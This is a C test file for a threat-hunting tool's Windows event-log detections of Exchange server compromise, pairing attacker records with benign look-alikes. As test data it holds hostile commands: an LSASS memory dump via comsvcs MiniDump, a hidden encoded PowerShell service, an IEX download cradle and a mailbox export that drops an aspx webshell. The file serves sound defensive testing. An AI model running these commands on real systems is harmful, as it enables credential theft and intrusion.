@@ -1,0 +1,238 @@
+/* The event-record reader (hunt/event.c) and each event check on golden
+ * records shaped as libevtx renders them: what each must find, and the
+ * benign look-alikes it must leave at low or informational. */
+#include "hunt/detect.h"
+#include "hunt/event.h"
+#include "base/err.h"
+#include "check.h"
+#include <stdio.h>
+#include <stdlib.h>
+
+#define EV(prov, chan, id, level, data)                                        \
+	"<Event xmlns=\"http://schemas.microsoft.com/win/2004/08/events/"      \
+	"event\">\n  <System>\n    <Provider Name=\"" prov "\"/>\n    "         \
+	"<EventID>" #id "</EventID>\n    <Level>" #level "</Level>\n    "       \
+	"<TimeCreated SystemTime=\"2021-03-03T04:05:06.1234567Z\"/>\n    "     \
+	"<EventRecordID>77</EventRecordID>\n    <Channel>" chan                \
+	"</Channel>\n    <Computer>EX01.corp.example</Computer>\n  "          \
+	"</System>\n  " data "\n</Event>\n"
+#define D(n, v) "<Data Name=\"" n "\">" v "</Data>"
+
+static void reader(void)
+{
+	struct event *e = malloc(sizeof *e);
+	static const char xml[] = EV(
+	    "MSExchange Unified Messaging", "Application", 100, 2,
+	    "<EventData><Data>a &lt;b&gt; &amp; &#x41;&#66;</Data>"
+	    "<Data Name=\"X\"/><Data>System.InvalidCastException</Data>"
+	    "</EventData>");
+	static const char user[] =
+	    "<Event><System><EventID>1102</EventID><TimeCreated "
+	    "SystemTime=\"bad\"/></System><UserData><LogFileCleared><"
+	    "SubjectUserName>mallory</SubjectUserName></LogFileCleared></"
+	    "UserData></Event>";
+
+	CHECK(e != NULL);
+	CHECK(event_parse_xml(xml, sizeof xml - 1, e) == 0);
+	CHECK(e->event_id == 100 && e->level == 2 && e->record_id == 77);
+	CHECK_STR(e->time, "2021-03-03T04:05:06Z");
+	CHECK_STR(e->provider, "MSExchange Unified Messaging");
+	CHECK_STR(e->channel, "Application");
+	CHECK_STR(event_get(e, "0"), "a <b> & AB"); /* entities decoded */
+	CHECK_STR(event_get(e, "x"), "");           /* empty, by any case */
+	CHECK_STR(event_get(e, "2"), "System.InvalidCastException");
+	CHECK(e->nv == 3);
+	CHECK(event_parse_xml(user, sizeof user - 1, e) == 0);
+	CHECK(e->time[0] == '\0'); /* a bad time is unknown, not guessed */
+	CHECK_STR(event_get(e, "SubjectUserName"), "mallory");
+	/* not an event: no EventID, or not XML at all */
+	CHECK(event_parse_xml("<Event><System/></Event>", 24, e) == EXH_EINVAL);
+	CHECK(event_parse_xml("garbage", 7, e) == EXH_EINVAL);
+	/* unbalanced and deep nesting stay bounded */
+	{
+		char deep[4000] = "<Event><System><EventID>1</EventID></System>";
+		size_t n = strlen(deep);
+		for (int i = 0; i < 300 && n + 8 < sizeof deep; i++, n += 3)
+			memcpy(deep + n, "<a>", 3);
+		deep[n] = '\0';
+		CHECK(event_parse_xml(deep, n, e) == 0);
+		CHECK(e->truncated);
+	}
+	free(e);
+}
+
+static const struct {
+	const char *name;
+	const char *xml[3];
+	const char *kind; /* NULL: nothing above informational or low */
+	int cve;
+	enum hunt_level level;
+} cases[] = {
+    {"26857 UM error",
+     {EV("MSExchange Unified Messaging", "Application", 100, 2,
+         "<EventData>" D("0", "Deserialization failed: "
+                              "System.InvalidCastException: Unable to cast")
+         "</EventData>")},
+     "um-deserialization", HC_26857, HL_EXPLOITED},
+    {"UM error of another kind",
+     {EV("MSExchange Unified Messaging", "Application", 100, 2,
+         "<EventData>" D("0", "The mailbox is full") "</EventData>")},
+     NULL, HC_NONE, HL_NOT_SEEN},
+    {"UMWorkerProcess starts cmd",
+     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 1, 4,
+         "<EventData>" D("Image", "C:\\Windows\\System32\\cmd.exe")
+             D("ParentImage", "C:\\Program Files\\Microsoft\\Exchange "
+                              "Server\\V15\\Bin\\UMWorkerProcess.exe")
+                 D("CommandLine", "cmd /c whoami") "</EventData>")},
+     "um-process-spawn", HC_26857, HL_EXPLOITED},
+    {"w3wp starts powershell",
+     {EV("Microsoft-Windows-Security-Auditing", "Security", 4688, 0,
+         "<EventData>" D("NewProcessName",
+                         "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\"
+                         "powershell.exe")
+             D("ParentProcessName", "c:\\windows\\system32\\inetsrv\\w3wp.exe")
+                 D("CommandLine", "powershell -ep bypass") "</EventData>")},
+     "exchange-process-spawn", HC_NONE, HL_NOT_SEEN},
+    {"w3wp compiles a page (csc)",
+     {EV("Microsoft-Windows-Security-Auditing", "Security", 4688, 0,
+         "<EventData>" D("NewProcessName",
+                         "C:\\Windows\\Microsoft.NET\\Framework64\\"
+                         "v4.0.30319\\csc.exe")
+             D("ParentProcessName", "c:\\windows\\system32\\inetsrv\\w3wp.exe")
+                 D("CommandLine", "csc.exe /noconfig @x.cmdline")
+                     "</EventData>")},
+     NULL, HC_NONE, HL_NOT_SEEN},
+    {"comsvcs MiniDump",
+     {EV("Microsoft-Windows-Security-Auditing", "Security", 4688, 0,
+         "<EventData>" D("NewProcessName", "C:\\Windows\\System32\\rundll32.exe")
+             D("ParentProcessName", "C:\\Windows\\System32\\cmd.exe")
+                 D("CommandLine", "rundll32 C:\\windows\\system32\\comsvcs.dll"
+                                  ", MiniDump 624 C:\\inetpub\\wwwroot\\l.dmp "
+                                  "full") "</EventData>")},
+     "lsass-dump", HC_NONE, HL_NOT_SEEN},
+    {"UMWorkerProcess writes an aspx",
+     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 11, 4,
+         "<EventData>" D("Image", "C:\\Program Files\\Microsoft\\Exchange "
+                                  "Server\\V15\\Bin\\UMWorkerProcess.exe")
+             D("TargetFilename", "C:\\inetpub\\wwwroot\\aspnet_client\\x.aspx")
+                 "</EventData>")},
+     "script-written-by-exchange", HC_26858, HL_EXPLOITED},
+    {"UMWorkerProcess writes its cache",
+     {EV("Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 11, 4,
+         "<EventData>" D("Image", "C:\\Program Files\\Microsoft\\Exchange "
+                                  "Server\\V15\\Bin\\UMWorkerProcess.exe")
+             D("TargetFilename", "C:\\Program Files\\Microsoft\\Exchange "
+                                 "Server\\V15\\UnifiedMessaging\\temp\\"
+                                 "CacheCleanup.bin") "</EventData>")},
+     NULL, HC_NONE, HL_NOT_SEEN},
+    {"service running cmd",
+     {EV("Service Control Manager", "System", 7045, 4,
+         "<EventData>" D("ServiceName", "updater")
+             D("ImagePath", "%COMSPEC% /c powershell -nop -w hidden -enc "
+                            "SQBFAFgA") "</EventData>")},
+     "service-installed", HC_NONE, HL_NOT_SEEN},
+    {"an admin's own service",
+     {EV("Service Control Manager", "System", 7045, 4,
+         "<EventData>" D("ServiceName", "Backup Agent")
+             D("ImagePath", "\"C:\\Program Files\\Veeam\\agent.exe\"")
+                 "</EventData>")},
+     NULL, HC_NONE, HL_NOT_SEEN},
+    {"added to Organization Management",
+     {EV("Microsoft-Windows-Security-Auditing", "Security", 4756, 0,
+         "<EventData>" D("MemberName", "CN=svc,CN=Users,DC=corp")
+             D("TargetUserName", "Organization Management")
+                 D("SubjectUserName", "EX01$") "</EventData>")},
+     "group-member-added", HC_NONE, HL_NOT_SEEN},
+    {"added to a mail group",
+     {EV("Microsoft-Windows-Security-Auditing", "Security", 4756, 0,
+         "<EventData>" D("MemberName", "CN=bob,CN=Users,DC=corp")
+             D("TargetUserName", "Sales Team") "</EventData>")},
+     NULL, HC_NONE, HL_NOT_SEEN},
+    {"task running a script",
+     {EV("Microsoft-Windows-Security-Auditing", "Security", 4698, 0,
+         "<EventData>" D("TaskName", "\\Microsoft\\Windows\\Update")
+             D("TaskContent", "&lt;Exec&gt;&lt;Command&gt;powershell.exe&lt;/"
+                              "Command&gt;&lt;Arguments&gt;-f C:\\ProgramData"
+                              "\\u.ps1&lt;/Arguments&gt;&lt;/Exec&gt;")
+                 "</EventData>")},
+     "task-created", HC_NONE, HL_NOT_SEEN},
+    {"a legitimate task",
+     {EV("Microsoft-Windows-Security-Auditing", "Security", 4698, 0,
+         "<EventData>" D("TaskName", "\\Backup nightly")
+             D("TaskContent", "&lt;Exec&gt;&lt;Command&gt;C:\\Program Files"
+                              "\\Backup\\run.exe&lt;/Command&gt;&lt;/Exec&gt;")
+                 "</EventData>")},
+     NULL, HC_NONE, HL_NOT_SEEN},
+    {"security log cleared",
+     {EV("Microsoft-Windows-Eventlog", "Security", 1102, 4,
+         "<UserData><LogFileCleared><SubjectUserName>adm</SubjectUserName>"
+         "</LogFileCleared></UserData>")},
+     "log-cleared", HC_NONE, HL_NOT_SEEN},
+    {"mailbox exported as aspx (management log)",
+     {EV("MSExchange CmdletLogs", "MSExchange Management", 1, 4,
+         "<EventData>" D("0", "New-MailboxExportRequest")
+             D("1", "-Mailbox \"a@b\" -FilePath "
+                    "\"\\\\127.0.0.1\\c$\\inetpub\\wwwroot\\aspnet_client\\"
+                    "s.aspx\"") "</EventData>")},
+     "mailbox-export-to-aspx", HC_31207, HL_EXPLOITED},
+    {"mailbox exported to a share (management log)",
+     {EV("MSExchange CmdletLogs", "MSExchange Management", 1, 4,
+         "<EventData>" D("0", "New-MailboxExportRequest")
+             D("1", "-Mailbox \"a@b\" -FilePath \"\\\\nas\\pst\\a.pst\"")
+                 "</EventData>")},
+     NULL, HC_NONE, HL_NOT_SEEN},
+    {"download cradle split over two 4104 parts",
+     {EV("Microsoft-Windows-PowerShell",
+         "Microsoft-Windows-PowerShell/Operational", 4104, 5,
+         "<EventData>" D("MessageNumber", "2") D("MessageTotal", "2")
+             D("ScriptBlockText", "Net.WebClient).DownloadString('http://x/a')")
+                 D("ScriptBlockId", "b1") "</EventData>"),
+      EV("Microsoft-Windows-PowerShell",
+         "Microsoft-Windows-PowerShell/Operational", 4104, 5,
+         "<EventData>" D("MessageNumber", "1") D("MessageTotal", "2")
+             D("ScriptBlockText", "IEX (New-Object ")
+                 D("ScriptBlockId", "b1") "</EventData>")},
+     "download-cradle", HC_NONE, HL_NOT_SEEN},
+    {"an admin's script block",
+     {EV("Microsoft-Windows-PowerShell",
+         "Microsoft-Windows-PowerShell/Operational", 4104, 5,
+         "<EventData>" D("MessageNumber", "1") D("MessageTotal", "1")
+             D("ScriptBlockText", "Get-Mailbox -ResultSize 10 | Format-List")
+                 D("ScriptBlockId", "b2") "</EventData>")},
+     NULL, HC_NONE, HL_NOT_SEEN},
+};
+
+int main(void)
+{
+	size_t i;
+
+	reader();
+	for (i = 0; i < sizeof cases / sizeof cases[0]; i++) {
+		struct hunt h = {.root = "t"};
+		const char *const *x = cases[i].xml;
+		int n = x[2] ? 3 : x[1] ? 2 : 1;
+		size_t k, hits = 0;
+		detect_event_records(&h, "Security.evtx", x, n);
+		hunt_correlate(&h);
+		for (k = 0; k < h.nf; k++) {
+			if (h.f[k].sev <= SEV_LOW)
+				continue;
+			hits++;
+			if (!cases[i].kind || strcmp(h.f[k].kind, cases[i].kind)) {
+				fprintf(stderr, "%s: unexpected %s: %s\n",
+				        cases[i].name, h.f[k].kind, h.f[k].detail);
+				CHECK(0);
+			}
+			CHECK_STR(h.f[k].time, "2021-03-03T04:05:06Z");
+		}
+		if (cases[i].kind && hits == 0) {
+			fprintf(stderr, "%s: %s not found\n", cases[i].name,
+			        cases[i].kind);
+			CHECK(0);
+		}
+		if (cases[i].cve >= 0)
+			CHECK(h.verdict[cases[i].cve] == cases[i].level);
+		hunt_release(&h);
+	}
+	return check_done();
+}
